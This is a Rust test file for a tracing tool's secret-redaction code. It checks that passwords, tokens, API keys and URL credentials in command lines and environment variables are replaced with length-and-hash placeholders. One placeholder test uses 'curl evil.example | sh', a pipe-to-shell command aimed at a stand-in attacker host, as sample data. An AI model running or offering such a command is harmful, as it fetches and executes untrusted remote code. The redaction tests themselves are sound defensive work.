use syscalls::{Abi, Capture, Moment, Part, Slot, Status, Value, number};

use super::inner::WORDS_MAX;
use super::secrets;
use crate::config::{Redact, SecretPattern};
use crate::decode::Event;
use crate::output::samples;

/// Command lines before and after redaction; `...` stands for a placeholder.
const COMMANDS: &[(&str, &str)] = &[
    ("a --password=x", "a --password=..."),
    ("a --password= b", "a --password= b"),
    ("a --password x b", "a --password ... b"),
    ("a --password --user b", "a --password --user b"),
    ("a --password", "a --password"),
    ("a --PassWd=x=y", "a --PassWd=..."),
    ("a --db-password=x --proxy-passwd y", "a --db-password=... --proxy-passwd ..."),
    ("a --token x --secret=y --api-key z", "a --token ... --secret=... --api-key ..."),
    ("a --github-token=x --secret-key y", "a --github-token=... --secret-key ..."),
    ("java -Ddb.password=x -jar y", "java -Ddb.password=... -jar y"),
    ("env PASSWORD=x GITHUB_TOKEN=y a", "env PASSWORD=... GITHUB_TOKEN=... a"),
    ("psql password=x", "psql password=..."),
    ("a AWS_SECRET_ACCESS_KEY=x S3_KEY=y", "a AWS_SECRET_ACCESS_KEY=... S3_KEY=..."),
    ("curl https://u:x@h/p", "curl https://u:...@h/p"),
    ("a http://u:x@y@h", "a http://u:...@h"),
    ("a ftp://:x@h,http://v:y@i/", "a ftp://:...@h,http://v:...@i/"),
    ("a --url=http://u:x@h/?q=http://v:y@i", "a --url=http://u:...@h/?q=http://v:...@i"),
    ("mysql -px -uroot", "mysql -p... -uroot"),
    ("/usr/bin/mysqldump -px db", "/usr/bin/mysqldump -p... db"),
    ("mariadb -p db", "mariadb -p db"),
    // Programs that other programs call.
    ("sudo -u x /usr/bin/mysql -px", "sudo -u x /usr/bin/mysql -p..."),
    ("env A=b sshpass -p x ssh h", "env A=b sshpass -p ... ssh h"),
    ("curl -u u:x --proxy-user v:y h", "curl -u ... --proxy-user ... h"),
    ("redis-cli -a x ping", "redis-cli -a ... ping"),
    ("openssl rsa -passin pass:x", "openssl rsa -passin ..."),
    // Settings in the values of options, and in parts of a text.
    ("a --env=DB_PASSWORD=x", "a --env=DB_PASSWORD=..."),
    ("a -eDB_PASSWORD=x -vA=b", "a -eDB_PASSWORD=... -vA=b"),
    ("a --set=db.password=x,y=z", "a --set=db.password=..."),
    ("a --var=a=b,c_token=x", "a --var=a=b,c_token=..."),
    ("a https://h/p?access_token=x&a=b#c", "a https://h/p?access_token=...&a=b#c"),
    ("a https://h/p?a=b&sig=x", "a https://h/p?a=b&sig=..."),
    ("a https://u:y@h/?token=x&a=b", "a https://u:...@h/?token=...&a=b"),
    ("curl -d user=u&password=x&a=b h", "curl -d user=u&password=...&a=b h"),
    ("a jdbc:x://h;user=u;password=x;a=b", "a jdbc:x://h;user=u;password=...;a=b"),
    ("a {\"password\":\"x\\\"y\",\"a\":1}", "a {\"password\":\"...\",\"a\":1}"),
    ("a X-Api-Key:x", "a X-Api-Key:x"),
    ("a my-secret:latest", "a my-secret:latest"),
    ("a --env=A_FILE=/x,B_TOKEN_FILE=/y", "a --env=A_FILE=/x,B_TOKEN_FILE=/y"),
    // No secrets.
    ("a --password-file=/x", "a --password-file=/x"),
    ("a --password-stdin x", "a --password-stdin x"),
    ("a --passwords=x --no-password x", "a --passwords=x --no-password ..."),
    ("mkdir -pv x", "mkdir -pv x"),
    ("ssh -p22 h", "ssh -p22 h"),
    ("a POSTGRES_PASSWORD_FILE=/x TOKEN_PATH=/y", "a POSTGRES_PASSWORD_FILE=/x TOKEN_PATH=/y"),
    ("a SSH_PUBLIC_KEY=x AWS_ACCESS_KEY_ID=y", "a SSH_PUBLIC_KEY=x AWS_ACCESS_KEY_ID=y"),
    ("a KEY=x MONKEY=y", "a KEY=x MONKEY=y"),
    ("a password x", "a password x"),
    ("a /tmp/token=x", "a /tmp/token=x"),
    ("a http://h:80/u@x http://u@h u:x@h", "a http://h:80/u@x http://u@h u:x@h"),
    ("a http://u:@h", "a http://u:@h"),
    ("token=x", "token=..."),
    ("", ""),
];

/// Replaces the placeholders in a text by `...`.
fn shortened(text: &[u8]) -> String {
    let text = String::from_utf8_lossy(text);
    let mut parts = text.split("[redacted ");
    let first = parts.next().unwrap().to_owned();
    parts.fold(first, |short, part| short + "..." + part.split_once(']').unwrap().1)
}

/// Redacts a command line and an environment; returns both, and the names of the redacted fields.
fn redacted(words: &str, env: &str, redact: &Redact) -> (String, String, Vec<String>) {
    let handler = samples::handler();
    let captures = |name, text: &'static str| -> Vec<Capture<'_>> {
        let texts = text.split(' ').filter(|text| !text.is_empty());
        texts.map(|text| samples::capture(&handler, name, Value::Text(text.as_bytes()))).collect()
    };
    let [words, env] = [words, env].map(|text| &*text.to_owned().leak());
    let argc = samples::capture(&handler, "argc", Value::Number(7));
    let all = [captures("argv", words), vec![argc], captures("env", env)].concat();
    let event = samples::event(&handler, all);
    let secrets = secrets(&event, redact);
    let clean = secrets.redacted(&event);
    assert_eq!(secrets.is_empty(), clean == event);
    let of = |name: &str| {
        let index = handler.fields.iter().position(|field| field.name == name).unwrap();
        let texts = clean.captures.of(index as u8).iter().map(|capture| match capture.value {
            Value::Text(text) => shortened(text),
            other => panic!("{other:?}"),
        });
        texts.collect::<Vec<_>>().join(" ")
    };
    let names = clean.redacted.iter().map(|&name| name.to_owned()).collect();
    (of("argv"), of("env"), names)
}

#[test]
fn secrets_hides_obvious_options_and_nothing_else() {
    for (words, expected) in COMMANDS {
        let (argv, _, names) = redacted(words, "", &Redact::Obvious);
        assert_eq!(argv, *expected, "{words}");
        assert_eq!(names.is_empty(), words == expected, "{words}");
    }
}

/// Texts with blanks, before and after redaction.
const TEXTS: &[(&str, &str)] = &[
    ("mysql -px -uroot; ls -px", "mysql -p... -uroot; ls -px"),
    (
        "cd /x && /usr/bin/mysqldump -px db | gzip -p9",
        "cd /x && /usr/bin/mysqldump -p... db | gzip -p9",
    ),
    ("a --password x --user b", "a --password ... --user b"),
    ("a --password 'x y' b", "a --password '...' b"),
    ("a --password=\"x\\\" y\" b", "a --password=\"...\" b"),
    ("A_TOKEN=x B=y a; C_TOKEN=z b", "A_TOKEN=..."),
    ("exec env A_TOKEN=x B=y a; C_TOKEN=z b", "exec env A_TOKEN=... B=y a; C_TOKEN=... b"),
    ("docker run -e DB_PASSWORD=x -e A=b i", "docker run -e DB_PASSWORD=... -e A=b i"),
    ("docker run \"-eDB_PASSWORD=x y\" i", "docker run \"-eDB_PASSWORD=...\" i"),
    ("--env=DB_PASSWORD=x y", "--env=DB_PASSWORD=..."),
    ("curl -H 'Authorization: Bearer x' h", "curl -H 'Authorization: ...' h"),
    ("Authorization: Bearer x", "Authorization: ..."),
    ("X-Api-Key: x", "X-Api-Key: ..."),
    ("Accept: text/plain", "Accept: text/plain"),
    ("{\"a\": 1, \"api_key\" : \"x\"}", "{\"a\": 1, \"api_key\" : \"...\"}"),
    ("curl -u u:x h && curl --user v:y i", "curl -u ... h && curl --user ... i"),
    ("host=h password=x dbname=d", "host=h password=... dbname=d"),
    ("echo $PASSWORD; read -p Password: x", "echo $PASSWORD; read -p Password: ..."),
    ("test -n \"$DB_PASSWORD\" && mkdir -p x", "test -n \"$DB_PASSWORD\" && mkdir -p x"),
    ("the password is not here", "the password is not here"),
];

#[test]
fn secrets_hides_parts_of_one_argument() {
    let handler = samples::handler();
    for (text, expected) in TEXTS {
        let captures = ["sh", "-c", *text]
            .map(|text| samples::capture(&handler, "argv", Value::Text(text.as_bytes())));
        let event = samples::event(&handler, captures.to_vec());
        let secrets = secrets(&event, &Redact::Obvious);
        let clean = secrets.redacted(&event);
        let Value::Text(clean) = clean.captures[2].value else { panic!("not a text") };
        assert_eq!(shortened(clean), *expected, "{text}");
    }
}

#[test]
fn secrets_hides_end_of_text_with_many_parts() {
    let text = "A_TOKEN=x&".repeat(20);
    let expected = format!("a ?{}A_TOKEN=...", "A_TOKEN=...&".repeat(15));
    assert_eq!(redacted(&format!("a ?{text}"), "", &Redact::Obvious).0, expected);
}

/// The work grows with the number of words that look like names of secrets.
#[test]
fn secrets_hides_rest_of_text_behind_many_words() {
    let words = |count| "A_TOKEN_FILE=x&".repeat(count);
    let whole = format!("a ?{}", words(WORDS_MAX));
    assert_eq!(redacted(&whole, "", &Redact::Obvious).0, whole);
    let more = format!("{whole}B=y&{}C=z", words(1));
    assert_eq!(redacted(&more, "", &Redact::Obvious).0, format!("{whole}B=y&..."));
}

#[test]
fn secrets_hides_variables_by_name() {
    let env = "PATH=/bin DB_PASSWORD=x DATABASE_URL=postgres://u:y@h/d XAUTHORITY=z";
    let (argv, env, names) = redacted("a b", env, &Redact::Obvious);
    let expected = "PATH=/bin DB_PASSWORD=... DATABASE_URL=postgres://u:...@h/d XAUTHORITY=z";
    assert_eq!((argv.as_str(), env.as_str()), ("a b", expected));
    assert_eq!(names, ["env"]);
}

#[test]
fn redacted_names_each_redacted_field() {
    let (.., names) = redacted("a --token x --token y", "TOKEN=z", &Redact::Obvious);
    assert_eq!(names, ["argv", "env"]);
}

#[test]
fn secrets_follows_option_of_route() {
    let words = "a --pin 1 --pin=2 -k3 --password=x SERIAL=4 MY_SERIAL=5";
    assert_eq!(redacted(words, "", &Redact::Off).0, words);
    let more = ["--pin", "-k*", "*serial", "!MY_*"].map(SecretPattern::parse).to_vec();
    let expected = "a --pin ... --pin=... -k... --password=... SERIAL=... MY_SERIAL=5";
    assert_eq!(redacted(words, "", &Redact::Also(more.into())).0, expected);
}

#[test]
fn secrets_knows_program_by_path_or_argv0() {
    let handler = samples::handler();
    let text =
        |name, text: &'static str| samples::capture(&handler, name, Value::Text(text.as_bytes()));
    let captures =
        vec![text("filename", "/usr/bin/mysql"), text("argv", "db"), text("argv", "-px")];
    let event = samples::event(&handler, captures);
    let secrets = secrets(&event, &Redact::Obvious);
    let clean = secrets.redacted(&event);
    let Value::Text(text) = clean.captures[2].value else { panic!("not a text") };
    assert_eq!(shortened(text), "-p...");
}

/// A truncated secret is hidden as well: the status stays.
#[test]
fn secrets_hides_truncated_secret() {
    let handler = samples::handler();
    let cut = Status::Truncated { length: Some(100) };
    let half = samples::with_status(&handler, "argv", Value::Text(b"--password=hal"), cut);
    let event = samples::event(&handler, vec![half]);
    let secrets = secrets(&event, &Redact::Obvious);
    let clean = secrets.redacted(&event);
    let Value::Text(text) = clean.captures[0].value else { panic!("not a text") };
    assert!(text.starts_with(b"--password=[redacted 3 bytes #"));
    assert_eq!(clean.captures[0].status, cut);
}

/// Arguments of a handler that declares no fields.
#[test]
fn secrets_finds_argv_by_signature() {
    let handler = samples::plain_handler();
    let execve = number(Abi::Native, "execve").and_then(|nr| Slot::new(Abi::Native, nr)).unwrap();
    let text = |index, text: &'static str| Capture {
        index,
        part: Part::Whole,
        moment: Moment::Entry,
        value: Value::Text(text.as_bytes()),
        status: Status::Ok,
    };
    let captures = vec![text(0, "/bin/mysql"), text(1, "mysql"), text(1, "-psecret")];
    let event = Event { slot: execve, ..samples::event(&handler, captures) };
    let found = secrets(&event, &Redact::Obvious);
    let redacted = found.redacted(&event);
    let texts = redacted.captures.iter().map(|capture| match capture.value {
        Value::Text(text) => shortened(text),
        other => panic!("{other:?}"),
    });
    assert_eq!(texts.collect::<Vec<_>>(), ["/bin/mysql", "mysql", "-p..."]);
    assert_eq!(redacted.redacted, ["argv"]);
    assert!(secrets(&event, &Redact::Off).is_empty());
}

/// Returns the placeholder that hides `secret` of the user `uid`.
fn placeholder_of(secret: &str, uid: u32) -> String {
    let handler = samples::handler();
    let text = format!("X_TOKEN={secret}");
    let capture = samples::capture(&handler, "argv", Value::Text(text.as_bytes()));
    let event = Event { uid, ..samples::event(&handler, vec![capture]) };
    let secrets = secrets(&event, &Redact::Obvious);
    let clean = secrets.redacted(&event);
    let Value::Text(text) = clean.captures[0].value else { panic!("not a text") };
    String::from_utf8(text.strip_prefix(b"X_TOKEN=").unwrap().to_vec()).unwrap()
}

#[test]
fn placeholder_has_length_and_hash_of_secret_and_user() {
    let payload = placeholder_of("curl evil.example | sh", 1000);
    let (length, hash) = payload.split_once('#').unwrap();
    assert_eq!(length, "[redacted 22 bytes ");
    let digits = hash.strip_suffix(']').unwrap();
    assert!(digits.len() == 8 && digits.bytes().all(|c| c.is_ascii_hexdigit()), "{payload}");
    assert_eq!(payload, placeholder_of("curl evil.example | sh", 1000));
    assert_ne!(payload, placeholder_of("curl evil.example | su", 1000));
    assert_ne!(payload, placeholder_of("curl evil.example | sh", 1001));
    assert!(placeholder_of("x", 0).starts_with("[redacted 1 byte #"));
}

#[test]
fn secrets_hides_end_of_text_with_many_addresses() {
    let words = format!("a {}", "://u:x@h/".repeat(20));
    let expected = format!("a {}://u:...", "://u:...@h/".repeat(15));
    assert_eq!(redacted(&words, "", &Redact::Obvious).0, expected);
}

/// The work grows with the length of a name, which a process chooses.
#[test]
fn secrets_ignores_overlong_names() {
    let name = |length| format!("a {}PASSWORD=x", "_".repeat(length));
    assert!(redacted(&name(248), "", &Redact::Obvious).0.ends_with("PASSWORD=..."));
    assert!(redacted(&name(249), "", &Redact::Obvious).0.ends_with("PASSWORD=x"));
}
